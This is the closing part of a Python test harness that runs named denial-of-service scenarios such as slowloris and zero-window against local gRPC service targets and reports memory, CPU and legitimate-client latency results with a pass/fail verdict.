    parser.add_argument("--legit-worker", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.legit_worker:
        legit_worker()
        return 0

    def terminate(signum, _frame):
        raise SystemExit(128 + signum)

    signal.signal(signal.SIGTERM, terminate)
    cfg = Config.from_environment(args.bin, args.work)
    source = args.bin_source or args.bin
    global REQUEST_MESSAGE
    REQUEST_MESSAGE = grpc_message(resolve_request().SerializeToString())

    unknown = sorted(set(cfg.attacks) - {a.name for a in ATTACKS}) + sorted(set(cfg.targets) - set(ALL_TARGETS))
    if unknown:
        print(f"attack: unknown {', '.join(unknown)}; ATTACKS from {', '.join(a.name for a in ATTACKS)}; "
              f"TARGETS from {', '.join(ALL_TARGETS)}", file=sys.stderr)
        return 2
    if cfg.attacks:
        attacks = [a for a in ATTACKS if a.name in cfg.attacks]
    else:
        attacks = [a for a in ATTACKS if not (a.full_only and cfg.short)]
    registry = PidRegistry(cfg.work / "pids")
    stacks, legit = Stacks(cfg, registry), LegitClients(cfg, registry)
    started = time.monotonic()
    rows = []
    print(f"attack: {len(attacks)} attacks × {len(cfg.targets)} targets, {cfg.duration:g} s each "
          f"({cfg.hold:g} s for held streams){' [SHORT]' if cfg.short else ''}; binaries from {source}", file=sys.stderr)
    try:
        for attack in attacks:
            for target in cfg.targets:
                row = measure(attack, target, cfg, stacks, legit)
                rows.append(row)
                latency = row.get("legit_latency") or {}
                print(f"attack: {attack.name:24} {target:8} alive={row.get('alive_text')} "
                      f"rss={row.get('rss_before_mib')}→{row.get('rss_peak_mib')} MiB cpu={row.get('cpu_seconds')} s "
                      f"legit failed={latency.get('failed')}/{latency.get('calls')} | {row.get('summary', '')[:160]}",
                      file=sys.stderr)
    finally:
        legit.close()
    total = time.monotonic() - started
    print(markdown_table(rows))
    print(f"\n{len(attacks)} attacks × {len(cfg.targets)} targets in {total:.0f} s; attacks of {cfg.duration:g} s "
          f"({cfg.hold:g} s for zero-window, slowloris and incomplete calls); legit: one grpcio Resolve every 20 ms "
          f"through the target; RSS sampled every 0.2 s; binaries: {source}")
    status, line = verdict(rows, cfg)
    print(line)
    if cfg.json_path:
        Path(cfg.json_path).write_text(json.dumps({
            "config": {"bin": source, "short": cfg.short, "duration": cfg.duration, "hold": cfg.hold,
                       "rss_limit_mib": cfg.rss_limit_mib, "targets": cfg.targets},
            "seconds": round(total, 1), "verdict": line, "exit_status": status, "results": rows,
        }, indent=2, default=str))
    return status


if __name__ == "__main__":
    sys.exit(main())
